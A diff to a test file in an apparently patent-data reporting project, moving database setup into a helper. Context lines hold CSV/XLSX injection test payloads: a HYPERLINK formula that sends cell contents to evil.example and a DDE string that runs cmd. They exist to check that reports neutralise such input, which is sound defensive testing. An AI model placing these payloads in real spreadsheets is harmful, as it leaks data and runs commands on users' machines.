@@ -23,7 +23,7 @@ import world
 from hvpatent.reports.safe_cells import FORMULA_START, neutralise, safe_row
 from hvpatent.reports.tables import write_xlsx
 from test_cli import hvp
-from webserver import ACCOUNTS, PASSWORD, serve
+from webserver import PASSWORD, serve, world_db
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
 DDE = '@SUM(1+1)*cmd|" /C calc"!A0'
@@ -96,16 +96,10 @@ def test_xlsx_writes_text_as_text_and_numbers_as_numbers(tmp_path):
 def _hostile_world(folder: Path) -> Path:
     """The world.py district, then data as a careless import might have left it: formulas as titles and
     names, a NUL and an ESC in a name and a title, a formula as an import's file name."""
-    from hvpatent.ingest.fields import normalize_name
-    from hvpatent.warehouse.accounts import add_user
     from hvpatent.warehouse.store import Warehouse
 
-    db = folder / "hostile.duckdb"
+    db = world_db(folder, "hostile.duckdb")
     with Warehouse(db) as wh:
-        world.build(wh)
-        for username, role, enterprise in ACCOUNTS:
-            name = normalize_name(getattr(world, enterprise)) if enterprise else None
-            add_user(wh.con, username, PASSWORD, role, name)
         wh.con.execute("UPDATE applications SET title = ? WHERE app_no IN (?, ?)", [HYPERLINK, world.A1, world.A3])
         wh.con.execute("UPDATE applications SET title = ? WHERE app_no IN (?, ?)", [CONTROL, world.A5, world.A10])
         wh.con.execute("UPDATE parties SET name = ? WHERE name = ?", [DDE, world.E1])
